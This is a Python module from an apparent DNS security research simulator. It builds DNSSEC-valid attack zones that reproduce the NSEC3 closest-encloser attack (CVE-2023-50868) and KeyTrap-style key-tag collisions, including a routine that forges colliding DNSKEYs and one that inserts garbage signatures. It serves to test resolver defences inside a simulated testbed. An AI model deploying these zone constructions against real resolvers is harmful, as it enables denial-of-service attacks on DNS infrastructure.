"""Adversarial zone generator: resource-exhaustion workloads for resolvers.

Two attack families, both deployed as correctly-delegated, DNSSEC-valid
children of a dedicated lab domain so that a validating resolver walks
into them exactly as it would any signed zone:

- **NSEC3 encloser attack** (CVE-2023-50868): zones signed with very high
  NSEC3 iteration counts and a maximum-length salt. Every unique
  non-existent name forces the resolver to hash the query name once per
  closest-encloser candidate plus the three proof owners — each hash
  costing ``iterations + 1`` SHA-1 passes over ``name | salt``. Modelled
  on the Goethe-Universität NSEC3-Encloser-Attack testbed, which drives
  BIND/Unbound with exactly this zone shape.

- **KeyTrap-style key-tag collisions** (after Heftrig et al., 2024): a
  wildcard zone whose apex DNSKEY RRset is padded with forged keys that
  all collide with the genuine ZSK's key tag, while the wildcard answer
  carries garbage RRSIGs ahead of the real one. Key tags are the only
  pre-filter a validator has, so every (garbage signature × colliding
  key) pair costs one full signature verification before the genuine
  pair finally succeeds.

Both zones answer every probe *correctly* in the end — an unguarded
resolver returns NOERROR/NXDOMAIN with AD after burning the work, which
is precisely why per-query budgets (:mod:`repro.resolver.guard`) and not
validity checks are the defence.
"""

from __future__ import annotations

import random
import struct
from dataclasses import dataclass, field

from repro.crypto.keys import make_ds
from repro.dns.name import Name
from repro.dns.rdata.dnssec import DNSKEY, FLAG_ZONE, PROTOCOL_DNSSEC, RRSIG
from repro.dns.types import RdataType
from repro.dnssec.signer import make_rrsig_rrset, sign_rrset
from repro.resolver.policy import RFC5155_MAX_ITERATIONS
from repro.server.authoritative import AuthoritativeServer
from repro.zone.builder import ZoneBuilder
from repro.zone.nsec3chain import Nsec3Params
from repro.zone.signing import SigningPolicy, sign_zone

PARENT_DOMAIN = "nsec3-attack-lab.com"


def attack_qname(kind, unique=""):
    """FQDN to query for attack zone *kind* with a cache-busting label.

    Module-level (no :class:`AttackZoneSet` required) so traffic
    generators — the service-mode loadgen in particular — can build
    attack streams against an already-deployed lab without holding zone
    handles.
    """
    prefix = f"{unique}." if unique else ""
    return f"{prefix}{kind}.{PARENT_DOMAIN}"


def default_attack_kinds(encloser_iterations=None):
    """The child-zone labels :func:`build_attack_zones` deploys by default."""
    iterations = ENCLOSER_ITERATIONS if encloser_iterations is None else encloser_iterations
    return [f"encloser-{min(int(i), RFC5155_MAX_ITERATIONS)}" for i in iterations] + [
        "keytrap"
    ]

#: Iteration counts for the encloser-attack children (capped at the
#: RFC 5155 ceiling — beyond it every resolver may answer insecurely
#: without hashing, which defeats the attack).
ENCLOSER_ITERATIONS = (500,)

#: Salt length for encloser zones. The salt is appended to *every* hash
#: pass, so a long salt multiplies per-iteration cost (~3 SHA-1 block
#: compressions per iteration at 128 bytes versus 1 with no salt).
ENCLOSER_SALT_LENGTH = 128

#: Forged DNSKEYs colliding with the ZSK tag in the KeyTrap zone.
KEYTRAP_FAKE_KEYS = 8

#: Garbage RRSIGs placed ahead of the genuine wildcard signature.
KEYTRAP_GARBAGE_SIGS = 8


@dataclass
class AttackZoneSet:
    """Handles to the deployed attacker infrastructure."""

    parent_name: Name
    server: AuthoritativeServer
    server_ips: tuple
    zones: dict = field(default_factory=dict)

    def attack_name(self, kind, unique=""):
        """FQDN to query for attack zone *kind* with a cache-busting label."""
        return attack_qname(kind, unique)

    def attack_kinds(self):
        """Child zone labels in deterministic probing order."""
        return sorted(label for label in self.zones if label != "@")


def forge_colliding_dnskey(target_tag, algorithm, rng, flags=FLAG_ZONE):
    """Forge a DNSKEY whose RFC 4034 key tag equals *target_tag*.

    The key tag is a 16-bit ones'-complement-style checksum over the
    rdata wire form, so a collision is constructed arithmetically: build
    a plausible RSA public key (exponent 65537, random 512-bit modulus)
    whose wire prefix ends on a 16-bit boundary, then solve for the final
    checksum word. The forged key parses cleanly and reaches real RSA
    math — verification just always fails, which is the point.
    """
    for __ in range(256):
        # exponent-length byte, e=65537, then 62 random modulus bytes;
        # the 2-byte tweak below completes a 64-byte (512-bit) modulus.
        body = b"\x03\x01\x00\x01" + bytes(rng.randrange(256) for __ in range(62))
        prefix = struct.pack("!HBB", flags, PROTOCOL_DNSSEC, algorithm) + body
        acc = 0
        for index, byte in enumerate(prefix):
            acc += byte << 8 if index % 2 == 0 else byte
        # len(prefix) is even, so the tweak occupies exactly one checksum
        # word: tag(prefix + tweak) folds acc + tweak.
        for tweak in range(0x10000):
            total = acc + tweak
            if (total + ((total >> 16) & 0xFFFF)) & 0xFFFF == target_tag:
                key = DNSKEY(
                    flags, PROTOCOL_DNSSEC, algorithm, body + tweak.to_bytes(2, "big")
                )
                if key.key_tag() == target_tag:
                    return key
                # A carry boundary skipped this residue; redraw the modulus.
                break
    raise ValueError(f"could not forge a key tag colliding with {target_tag}")


def _encloser_child(label, parent, server_v4, server_v6, rng):
    """An NSEC3 zone shaped to maximise closest-encloser proof cost.

    Long-labelled filler names fatten the hash input (more SHA-1 blocks
    per pass) and populate the NSEC3 chain; no wildcard exists, so every
    unique query yields a full NXDOMAIN closest-encloser proof.
    """
    origin = f"{label}.{parent}"
    builder = (
        ZoneBuilder(origin)
        .soa(f"ns1.{origin}", f"hostmaster.{origin}")
        .ns(f"ns1.{origin}.")
        .a(f"ns1.{origin}.", server_v4)
        .aaaa(f"ns1.{origin}.", server_v6)
        .a("@", "203.0.113.66")
    )
    for index in range(14):
        filler = "x" * 40 + f"-{index:02d}"
        builder.a(filler, f"203.0.113.{index + 100}")
    return builder.build()


def _keytrap_child(label, parent, server_v4, server_v6):
    """A wildcard zone: every unique name synthesises a signed answer."""
    origin = f"{label}.{parent}"
    return (
        ZoneBuilder(origin)
        .soa(f"ns1.{origin}", f"hostmaster.{origin}")
        .ns(f"ns1.{origin}.")
        .a(f"ns1.{origin}.", server_v4)
        .aaaa(f"ns1.{origin}.", server_v6)
        .a("@", "203.0.113.66")
        .wildcard_a("203.0.113.66")
        .build()
    )


def _sabotage_keytrap(zone, rng, fake_keys=KEYTRAP_FAKE_KEYS, garbage_sigs=KEYTRAP_GARBAGE_SIGS):
    """Install the KeyTrap amplifier into an already-signed wildcard zone.

    Afterwards each unique wildcard answer costs the validator roughly
    ``garbage_sigs × (fake_keys + 1) + 1`` signature verifications: every
    garbage RRSIG is tried against every tag-colliding key before the
    genuine signature finally validates. The DNSKEY RRset is re-signed by
    the KSK so the sabotaged zone remains fully DNSSEC-valid.
    """
    origin = zone.origin
    ksk, zsk = zone.keys
    dnskey_rrset = zone.get_rrset(origin, RdataType.DNSKEY)
    for __ in range(fake_keys):
        dnskey_rrset.add(forge_colliding_dnskey(zsk.key_tag, zsk.algorithm, rng))
    zone.rrsigs[(origin, int(RdataType.DNSKEY))] = make_rrsig_rrset(
        dnskey_rrset, [sign_rrset(dnskey_rrset, ksk, origin)]
    )

    wildcard_owner = origin.prepend(b"*")
    sig_rrset = zone.rrsigs[(wildcard_owner, int(RdataType.A))]
    real = sig_rrset.rdatas[0]
    garbage = [
        RRSIG(
            real.type_covered,
            real.algorithm,
            real.labels,
            real.original_ttl,
            real.expiration,
            real.inception,
            real.key_tag,
            real.signer,
            bytes(rng.randrange(256) for __ in range(len(real.signature))),
        )
        for __ in range(garbage_sigs)
    ]
    # Validators try signatures in RRset order; the genuine one goes last.
    sig_rrset.rdatas[:0] = garbage


def build_attack_zones(
    inet,
    seed=50868,
    encloser_iterations=ENCLOSER_ITERATIONS,
    fake_keys=KEYTRAP_FAKE_KEYS,
    garbage_sigs=KEYTRAP_GARBAGE_SIGS,
):
    """Deploy the attacker infrastructure into an existing Internet testbed.

    Mirrors :func:`repro.testbed.rfc9276_wild.build_probe_zones`: a
    dedicated authoritative server hosts the lab parent and children, the
    delegation is inserted into ``.com``, and ``.com`` is re-signed with
    its existing keys. Returns the :class:`AttackZoneSet`.
    """
    rng = random.Random(seed)
    network = inet.network
    server = AuthoritativeServer("nsec3-attack-lab")
    v4, v6 = inet.allocator.next_v4(), inet.allocator.next_v6()
    network.attach(v4, server)
    network.attach(v6, server)

    parent = Name.from_text(PARENT_DOMAIN)
    parent_builder = (
        ZoneBuilder(PARENT_DOMAIN)
        .soa(f"ns1.{PARENT_DOMAIN}", f"hostmaster.{PARENT_DOMAIN}")
        .ns(f"ns1.{PARENT_DOMAIN}.")
        .a("ns1", v4)
        .aaaa("ns1", v6)
        .a("@", "203.0.113.66")
    )

    attack_set = AttackZoneSet(parent, server, (v4, v6))
    child_entries = []

    for iterations in encloser_iterations:
        iterations = min(int(iterations), RFC5155_MAX_ITERATIONS)
        label = f"encloser-{iterations}"
        zone = _encloser_child(label, PARENT_DOMAIN, v4, v6, rng)
        salt = bytes(rng.randrange(256) for __ in range(ENCLOSER_SALT_LENGTH))
        ksk, zsk = inet.key_pool.next_pair()
        sign_zone(
            zone,
            SigningPolicy(nsec3=Nsec3Params(iterations, salt)),
            ksk=ksk,
            zsk=zsk,
            rng=rng,
        )
        server.add_zone(zone)
        attack_set.zones[label] = zone
        child_entries.append((label, zone))

    keytrap = _keytrap_child("keytrap", PARENT_DOMAIN, v4, v6)
    ksk, zsk = inet.key_pool.next_pair()
    sign_zone(
        keytrap,
        SigningPolicy(nsec3=Nsec3Params(0, b"")),
        ksk=ksk,
        zsk=zsk,
        rng=rng,
    )
    _sabotage_keytrap(keytrap, rng, fake_keys=fake_keys, garbage_sigs=garbage_sigs)
    server.add_zone(keytrap)
    attack_set.zones["keytrap"] = keytrap
    child_entries.append(("keytrap", keytrap))

    # Parent zone: delegate every child with DS, then sign (0 iterations).
    for label, zone in child_entries:
        origin = f"{label}.{PARENT_DOMAIN}"
        parent_builder.delegate(
            Name.from_text(origin),
            f"ns1.{origin}.",
            ds=[make_ds(origin, zone.keys[0].dnskey)],
        )
        parent_builder.a(f"ns1.{origin}.", v4)
        parent_builder.aaaa(f"ns1.{origin}.", v6)
    parent_zone = parent_builder.build()
    ksk, zsk = inet.key_pool.next_pair()
    sign_zone(
        parent_zone, SigningPolicy(nsec3=Nsec3Params(0, b"")), ksk=ksk, zsk=zsk, rng=rng
    )
    server.add_zone(parent_zone)
    attack_set.zones["@"] = parent_zone

    # Insert the delegation into .com and re-sign it with its existing keys.
    com = inet.tld_zones.get("com")
    if com is None:
        raise ValueError("testbed has no .com zone to delegate the attack domain from")
    com_spec = next(spec for spec in inet.tld_specs if spec.label == "com")
    from repro.dns.rdata import AAAA, NS, A

    com.add(parent, RdataType.NS, 3600, NS(f"ns1.{PARENT_DOMAIN}."))
    com.add(parent, RdataType.DS, 3600, make_ds(PARENT_DOMAIN, parent_zone.keys[0].dnskey))
    com.add(f"ns1.{PARENT_DOMAIN}", RdataType.A, 3600, A(v4))
    com.add(f"ns1.{PARENT_DOMAIN}", RdataType.AAAA, 3600, AAAA(v6))
    ksk_com, zsk_com = com.keys if com.keys else inet.key_pool.next_pair()
    com_params = (
        Nsec3Params(
            iterations=com_spec.iterations,
            salt=b"",
            opt_out=com_spec.opt_out,
        )
        if com_spec.denial == "nsec3"
        else None
    )
    sign_zone(com, SigningPolicy(nsec3=com_params), ksk=ksk_com, zsk=zsk_com, rng=rng)
    return attack_set
